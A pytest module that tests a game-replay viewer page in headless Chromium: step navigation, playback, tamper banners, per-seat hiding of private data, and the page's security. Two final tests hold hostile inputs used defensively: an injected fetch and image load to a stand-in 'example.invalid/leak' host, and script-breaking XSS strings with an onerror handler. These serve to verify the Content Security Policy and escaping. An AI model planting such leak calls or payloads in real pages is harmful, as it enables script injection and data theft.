"""The viewer page in a real browser (headless Chromium, tests/browser.py): opened from file://,
driven with its buttons, keys, slider, turn jump and decision list, through different eyes.

For the three games the committed golden logs are drawn by the generic drawing (a game adds
its own drawing's checks in its own tests); the toy game drawn by tests/view_helpers.py proves
the drawing facet's path end to end. Every page must load without a console error and without
a single network request. One browser serves the whole module (about 30 s).
"""

from __future__ import annotations

import json
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from altay_cli.engine import load_game
from altay_cli.replay import replay_log
from altay_cli.web.eyes import ALL, SPECTATOR, seat_eyes
from altay_cli.web.view import build_page
from tests.browser import Browser, chromium, needs_chromium
from tests.view_helpers import GOLDEN, TOY_DRAWN, log_lines, marked_log, rechained

pytestmark = needs_chromium

GAME_GOLDENS = {
    "altay": GOLDEN / "3p_trading_recommended.jsonl",
    "innovation": GOLDEN / "innovation_2p_greedy.jsonl",
    "mammothodus": GOLDEN / "mammothodus_4p_talents_discoveries.jsonl",
}


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with chromium() as b:
        yield b


def write(tmp: Path, log: Path, eyes: Any, name: str) -> Path:
    out = tmp / name
    out.write_text(build_page(log, eyes)[0], encoding="utf-8")
    return out


def open_page(browser: Browser, page: Path, fragment: str = "") -> None:
    browser.open(page, fragment)
    for _ in range(100):
        if browser.run("return document.body.dataset.ready") == "1":
            return
        time.sleep(0.05)
    raise AssertionError(f"the page never got ready; console: {browser.console_errors()}")


def shown_step(browser: Browser) -> int:
    return int(browser.run("return document.getElementById('step-label').dataset.step"))


def fragment(browser: Browser) -> str:
    return browser.run("return window.location.hash")


def click(browser: Browser, element_id: str) -> None:
    browser.driver.find_element("id", element_id).click()


def keys(browser: Browser, *pressed: str) -> None:
    from selenium.webdriver.common.action_chains import ActionChains

    browser.driver.find_element("tag name", "h1").click()  # the page, not a control, has the focus
    chain = ActionChains(browser.driver)
    for key in pressed:
        chain.send_keys(key)
    chain.perform()


def clean(browser: Browser) -> None:
    assert browser.console_errors() == []
    assert browser.network_requests() == []


def shown_result(browser: Browser) -> list[dict[str, int]]:
    return browser.run(
        "return [...document.querySelectorAll('#result tr[data-seat]')].map(tr => ({seat: +tr.dataset.seat,"
        " rank: +tr.dataset.rank, total: +tr.dataset.total}))"
    )


@pytest.mark.parametrize("game", sorted(GAME_GOLDENS))
def test_step_to_the_end_and_read_the_logs_result(browser: Browser, tmp_path: Path, game: str) -> None:
    from selenium.webdriver.common.keys import Keys

    log = GAME_GOLDENS[game]
    result = log_lines(log)[-1]
    last = result["decisions"]
    open_page(browser, write(tmp_path, log, ALL, "all.html"))
    assert shown_step(browser) == 0 and fragment(browser) in ("", "#step=0")
    assert browser.run("return document.getElementById('result').hidden") is True
    click(browser, "next")
    click(browser, "next")
    assert shown_step(browser) == 2 and fragment(browser) == "#step=2"
    click(browser, "prev")
    assert shown_step(browser) == 1
    keys(browser, Keys.END)
    assert shown_step(browser) == last and fragment(browser) == f"#step={last}"
    want = [
        {"seat": s, "rank": result["ranks"][s], "total": result["scores"][s]["total"]}
        for s in range(len(result["ranks"]))
    ]
    assert sorted(shown_result(browser), key=lambda r: r["seat"]) == want
    assert browser.run("return document.getElementById('result').hidden") is False
    # the game's length in its own count: Innovation's and Mammothodus's in turns, never rounds
    ending = browser.run("return document.querySelector('#result p.ending').textContent")
    unit = load_game(game).text.length_unit
    length = f"{result[unit.value]} {unit.value}"
    assert length in ending and (unit == "rounds" or "round" not in ending), ending
    keys(browser, Keys.HOME)
    assert shown_step(browser) == 0
    keys(browser, Keys.ARROW_RIGHT, Keys.ARROW_RIGHT, Keys.ARROW_RIGHT, Keys.ARROW_LEFT)
    assert shown_step(browser) == 2
    click(browser, "last")
    assert shown_step(browser) == last and browser.run("return document.getElementById('next').disabled")
    click(browser, "first")
    assert shown_step(browser) == 0
    # the decision shown is the log's: its seat and the action in the game's notation
    keys(browser, Keys.ARROW_RIGHT)
    decision = browser.run(
        "const d = document.getElementById('decision'); return [d.dataset.n, d.dataset.seat]"
    )
    assert decision == ["0", str(log_lines(log)[1]["seat"])]
    clean(browser)


def test_the_fragment_opens_at_a_step_and_follows_the_slider_turns_and_list(
    browser: Browser, tmp_path: Path
) -> None:
    log = GAME_GOLDENS["altay"]
    page = write(tmp_path, log, seat_eyes(1), "seat1.html")
    open_page(browser, page, "step=120")
    assert shown_step(browser) == 120 and fragment(browser) == "#step=120"
    assert browser.run("return document.getElementById('slider').value") == "120"
    click(browser, "next")
    assert fragment(browser) == "#step=121"
    # the slider: moved by the keyboard (its own arrows), then set as a drag would set it
    slider = browser.driver.find_element("id", "slider")
    slider.click()
    from selenium.webdriver.common.keys import Keys

    position = shown_step(browser)
    slider.send_keys(Keys.ARROW_RIGHT)
    assert shown_step(browser) == position + 1
    browser.run(
        "const s = document.getElementById('slider'); s.value = 300; s.dispatchEvent(new Event('input'))"
    )
    assert shown_step(browser) == 300 and fragment(browser) == "#step=300"
    # the turn jump: every turn of Game.text.turn_of, opening at its first step
    from selenium.webdriver.support.select import Select

    game = replay_log(log).game
    assert game is not None
    keys_at: list[Any] = []
    replay_log(
        log,
        on_step=lambda d, b, a: keys_at.extend(
            [game.text.turn_of(b)] * (not keys_at) + [game.text.turn_of(a)]
        ),
    )
    firsts: dict[int, tuple[str, int]] = {}  # a turn starts where (label, seat) changes
    previous = None
    for step, key in enumerate(keys_at):
        if key is not None and key != previous:
            firsts[step] = key
            previous = key
    select = Select(browser.driver.find_element("id", "turn-jump"))
    labels = [o.text for o in select.options][1:]
    assert len(labels) == len(firsts)
    step, (label, seat) = list(firsts.items())[10]
    select.select_by_value(str(step))
    assert shown_step(browser) == step and fragment(browser) == f"#step={step}"
    assert labels[10].startswith(f"{label} \u00b7 P{seat}")
    assert browser.run("return document.getElementById('now').textContent").startswith(label)
    # the list of decisions: a click opens the step after that decision
    browser.run("document.querySelector('#decisions li[data-step=\"42\"]').scrollIntoView()")
    browser.driver.find_element("css selector", '#decisions li[data-step="42"]').click()
    assert (
        shown_step(browser) == 42
        and browser.run("return document.getElementById('decision').dataset.n") == "41"
    )
    # an edited fragment moves the page too
    browser.run("window.location.hash = '#step=7'")
    time.sleep(0.2)
    assert shown_step(browser) == 7
    clean(browser)


def test_play_advances_and_pause_stops(browser: Browser, tmp_path: Path) -> None:
    open_page(browser, write(tmp_path, GAME_GOLDENS["innovation"], SPECTATOR, "spec.html"), "step=5")
    browser.run(
        "const s = document.getElementById('speed'); s.value = '25'; s.dispatchEvent(new Event('change'))"
    )
    click(browser, "play")
    assert browser.run("return document.getElementById('play').getAttribute('aria-pressed')") == "true"
    deadline = time.monotonic() + 20
    while shown_step(browser) < 8 and time.monotonic() < deadline:
        time.sleep(0.05)
    assert shown_step(browser) >= 8
    from selenium.webdriver.common.keys import Keys

    keys(browser, Keys.SPACE)  # pause
    paused = shown_step(browser)
    time.sleep(0.3)
    assert shown_step(browser) == paused
    assert browser.run("return document.getElementById('play').getAttribute('aria-pressed')") == "false"
    clean(browser)


def test_an_edited_log_shows_its_banner_and_stops_at_the_last_good_step(
    browser: Browser, tmp_path: Path
) -> None:
    lines = log_lines(GOLDEN / "mammothodus_1p_greedy.jsonl")
    decisions = [i for i, line in enumerate(lines) if line["type"] == "decision"]
    lines[decisions[77]]["digest"] = "f" * 32
    log = tmp_path / "edited.jsonl"
    log.write_bytes(rechained(lines))
    verdict = replay_log(log)
    assert verdict.status == "invalid"
    open_page(browser, write(tmp_path, log, ALL, "edited.html"), "step=400")
    assert shown_step(browser) == 77  # clamped: nothing after the last good step exists here
    banner = browser.run("const b = document.getElementById('banner'); return [b.hidden, b.textContent]")
    assert banner[0] is False and "does not verify" in banner[1] and verdict.message in banner[1]
    assert "up to step 77" in banner[1]
    assert browser.run("return document.getElementById('step-label').textContent") == "step 77 of 77"
    assert browser.run("return document.getElementById('result').dataset.status") == "none"
    assert browser.run("return document.getElementById('verified').hidden") is True
    clean(browser)
    # a log of which nothing verifies: the banner alone, and every control still safe to press
    lines[0]["initial_digest"] = "0" * 32
    log.write_bytes(rechained(lines))
    open_page(browser, write(tmp_path, log, SPECTATOR, "nothing.html"), "step=3")
    assert "Nothing of it verifies" in browser.run("return document.getElementById('banner').textContent")
    for control in ("next", "last", "play", "prev", "first"):
        browser.run(f"document.getElementById('{control}').click()")
    assert shown_step(browser) == 0
    clean(browser)


def _hands(browser: Browser) -> list[list[str]]:
    return browser.run(
        "return [...document.querySelectorAll('#board g[data-seat]')].map(g => [...g.querySelectorAll("
        "'[data-hand-card]')].map(c => c.dataset.handCard))"
    )


def test_the_toy_drawing_through_each_eyes_shows_and_hides_what_it_should(
    browser: Browser, tmp_path: Path
) -> None:
    log = marked_log(tmp_path / "toy.jsonl", TOY_DRAWN, 3, 11)
    states: list[Any] = []
    replay_log(log, on_step=lambda d, b, a: states.extend([b.clone()] * (not states) + [a.clone()]))
    step = 4
    state = states[step]
    pages = {
        "spectator": write(tmp_path, log, SPECTATOR, "spec.html"),
        "seat 1": write(tmp_path, log, seat_eyes(1), "seat1.html"),
        "all": write(tmp_path, log, ALL, "all.html"),
    }
    hands = [[str(c) for c in h] for h in state.hands]
    # all eyes: every hand, the pile and the sum as the engine has them
    open_page(browser, pages["all"], f"step={step}")
    assert _hands(browser) == hands
    total = browser.run("return document.querySelector('#board [data-total]').dataset.total")
    assert int(total) == sum(state.pile)
    pile = browser.run(
        "return [...document.querySelectorAll('#board [data-pile]')].map(c => +c.dataset.card)"
    )
    assert pile == state.pile
    assert browser.run("return document.querySelectorAll('#decision .legal-list li').length") > 0
    # seat 1's eyes: its own hand, the others face down; its own decisions' legal actions and info
    open_page(browser, pages["seat 1"], f"step={step}")
    assert _hands(browser) == [["hidden"] * len(hands[0]), hands[1], ["hidden"] * len(hands[2])]
    seat_of = browser.run("return +document.getElementById('decision').dataset.seat")
    legal_shown = browser.run("return document.querySelectorAll('#decision .legal-list li').length")
    info_shown = browser.run("return document.querySelector('#decision .info') !== null")
    assert (legal_shown > 0) == (seat_of == 1) and info_shown == (seat_of == 1)
    decided = [line for line in log_lines(log) if line["type"] == "decision"]
    own = 1 + next(d["n"] for d in decided if d["seat"] == 1 and d["status"] == "ok")
    open_page(browser, pages["seat 1"], f"step={own}")
    assert browser.run("return document.querySelector('#decision .info pre').textContent").startswith(
        "SECRET-info-of-seat-1"
    )
    stderr = browser.run("return [...document.querySelectorAll('#bots .stderr')].map(d => +d.dataset.seat)")
    assert stderr == [1]
    # a spectator: no hand, no legal action, no info, no stderr, no failure detail
    open_page(browser, pages["spectator"], f"step={step}")
    assert all(set(h) == {"hidden"} for h in _hands(browser))
    text = browser.run("return document.body.textContent")
    assert "SECRET-" not in text and "hand now" not in text
    assert browser.run("return document.getElementById('bots').hidden") is True
    # the drawing is told the seats with labels, patterns and their SVG fill
    fills = browser.run(
        "return [...document.querySelectorAll('#board g[data-seat] rect:first-child')]"
        ".map(r => r.getAttribute('fill'))"
    )
    assert fills == ["url(#altay-seat-0)", "url(#altay-seat-1)", "url(#altay-seat-2)"]
    assert browser.run("return document.querySelectorAll('#altay-patterns pattern').length") == 3
    clean(browser)


def test_the_page_decodes_every_frame_as_the_python_side_wrote_it(browser: Browser, tmp_path: Path) -> None:
    from altay_cli.web import frames
    from tests.view_helpers import page_data_of

    page = write(tmp_path, GAME_GOLDENS["mammothodus"], ALL, "all.html")
    data = page_data_of(page.read_text())
    open_page(browser, page)
    got = browser.run(
        "const data = JSON.parse(document.getElementById('altay-data').textContent);"
        "const d = window.AltayFrames.decoder(data.frames); const out = [];"
        "for (let i = data.frames.length - 1; i >= 0; i -= 7) out.push([i, JSON.stringify(d.get(i))]);"
        "for (let i = 0; i < data.frames.length; i += 1) out.push([i, JSON.stringify(d.get(i))]);"
        "return out;"
    )
    want = [json.dumps(f, separators=(",", ":")) for f in frames.decode(data["frames"])]
    for i, text in got:
        assert json.loads(text) == json.loads(want[i]), f"step {i}"
    clean(browser)


def test_a_drawing_that_fails_is_reported_and_its_frame_shown_as_data(
    browser: Browser, tmp_path: Path, monkeypatch
) -> None:
    from tests.view_helpers import ToyDrawing

    monkeypatch.setattr(
        ToyDrawing, "script", lambda self: 'window.altayGames["toy-drawn"] = {draw() { null.x; }};'
    )
    log = marked_log(tmp_path / "toy.jsonl", TOY_DRAWN, 2, 3)
    open_page(browser, write(tmp_path, log, SPECTATOR, "broken.html"))
    assert browser.run("return document.querySelector('[data-drawing-error]') !== null")
    assert browser.run("return document.querySelector('#board .tree-node') !== null")
    errors = browser.console_errors()
    assert any("the drawing failed at step 0" in e for e in errors)
    assert browser.network_requests() == []


def test_the_page_makes_no_request_even_when_a_drawing_tries(
    browser: Browser, tmp_path: Path, monkeypatch
) -> None:
    """The page's security policy stops a drawing that fetches or loads an image from the network."""
    from tests.view_helpers import TOY_SCRIPT, ToyDrawing

    sneaky = TOY_SCRIPT + (
        '\nconst img = new Image(); img.src = "https://example.invalid/x.png";'
        "\ndocument.body.appendChild(img);"
        '\nfetch("https://example.invalid/leak").catch(() => {});'
    )
    monkeypatch.setattr(ToyDrawing, "script", lambda self: sneaky)
    log = marked_log(tmp_path / "toy.jsonl", TOY_DRAWN, 2, 3)
    open_page(browser, write(tmp_path, log, SPECTATOR, "sneaky.html"))
    time.sleep(0.3)
    asked: dict[str, str] = {}
    blocked: set[str] = set()
    answered: set[str] = set()
    for entry in browser.driver.get_log("performance"):
        message = json.loads(entry["message"])["message"]
        params = message.get("params", {})
        if message.get("method") == "Network.requestWillBeSent":
            if params["request"]["url"].startswith("http"):
                asked[params["requestId"]] = params["request"]["url"]
        elif message.get("method") == "Network.loadingFailed" and params.get("blockedReason") == "csp":
            blocked.add(params["requestId"])
        elif message.get("method") == "Network.responseReceived":
            answered.add(params["requestId"])
    assert asked and set(asked) <= blocked and not set(asked) & answered  # stopped before leaving
    assert any("Content Security Policy" in e for e in browser.console_errors())


def test_hostile_names_and_texts_in_a_log_stay_text(browser: Browser, tmp_path: Path) -> None:
    """A seat's name, an info text and stderr come from bots and organisers: nothing in them can
    end the page's data, run a script or add an element; they are shown as they were written."""
    evil = "</script><script>window.pwned = 1</script><!--<script>"
    lines = log_lines(marked_log(tmp_path / "toy.jsonl", TOY_DRAWN, 2, 5))
    lines[0]["seats"][0]["name"] = evil
    first = next(line for line in lines if line["type"] == "decision" and line["status"] == "ok")
    first["info"] = evil + "<img src=x onerror='window.pwned = 2'>"
    log = tmp_path / "evil.jsonl"
    log.write_bytes(rechained(lines))
    assert replay_log(log).ok  # (names and info texts are attested: the game cannot tell)
    page = write(tmp_path, log, ALL, "evil.html")
    assert evil not in page.read_text()  # its "<" are written \u003c in the data
    open_page(browser, page, f"step={first['n'] + 1}")
    assert browser.run("return window.pwned === undefined")
    assert evil in browser.run("return document.getElementById('seats').textContent")
    assert browser.run("return document.querySelector('#decision .info pre').textContent") == first["info"]
    assert browser.run("return document.querySelectorAll('img').length") == 0
    clean(browser)
